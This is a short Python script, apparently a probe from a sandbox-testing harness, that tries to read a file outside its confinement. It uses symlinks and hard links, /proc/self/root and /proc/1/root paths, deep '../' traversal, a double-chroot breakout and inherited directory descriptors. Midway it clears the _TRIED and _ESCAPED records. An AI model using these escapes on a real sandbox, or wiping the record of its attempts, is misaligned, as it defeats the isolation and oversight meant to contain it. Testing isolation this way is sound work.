"""Reach a file outside by links and folders that are not what they seem."""

target = P["file"]
attempt("symbolic link", os.symlink, target, "link") and None
attempt("hard link", os.link, target, "hard")
escaped = []
for path in ("link", "hard", "/proc/self/root" + target, "/proc/self/cwd/link", "/proc/1/root" + target, "/proc/thread-self/root" + target, "../" * 20 + target, "/dev/fd/../../.." + target):
    try:
        escaped.append((path, reads(path)))
    except OSError:
        pass
_TRIED.clear()
_ESCAPED.clear()
tried(f"read through {[path for path, _ in escaped]}", bool(escaped))


def leave_root():
    os.chroot(".")
    os.chdir("../../../../../..")
    os.chroot(".")
    reads(target)


attempt("chroot", leave_root)
for descriptor in range(3, 64):
    try:
        reads(os.open(target.lstrip("/"), os.O_RDONLY, dir_fd=descriptor))
        tried(f"folder {descriptor}", True)
    except (OSError, TypeError):
        pass
finish()
